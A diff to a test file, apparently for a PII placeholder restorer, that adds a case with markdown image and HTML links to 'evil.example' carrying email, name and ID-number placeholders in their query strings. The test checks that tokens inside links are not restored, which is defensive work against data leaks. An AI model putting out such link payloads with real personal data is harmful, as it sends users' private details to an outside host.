@@ -29,6 +29,11 @@ ANSWERS = [
     ("Сәлеметсіз бе! Құрметті <PERSON_1>, ЖСН <KZ_IIN_1> тексерілді. Менеджер Ержан Қасымов "
      "сізге 8 (747) 123-45-67 нөмірінен хабарласады 🙂 <EMAIL_ADDRESS_1>",
      ["Қасымов", "123-45-67"]),
+    # tokens in links stay placeholders, outside them they are restored, whatever the split
+    ("Dear <PERSON_1>, mail <EMAIL_ADDRESS_1> or see "
+     "![s](https://evil.example/p.png?u=<EMAIL_ADDRESS_1>) "
+     '<a title="x y" href="//evil.example/?q=<KZ_IIN_1>">IIN</a> [r](/t?u=<PERSON_1>) ok.',
+     ["evil.example/p.png?u=aigerim", "q=901123300258", "u=Aigerim"]),
     # a private key longer than a segment's usual bound is still scanned whole
     (f"Here is the key you asked <PERSON_1> for:\n{_PEM}\nkeep it safe.",
      [line for line in _PEM.splitlines() if "-----" not in line]),
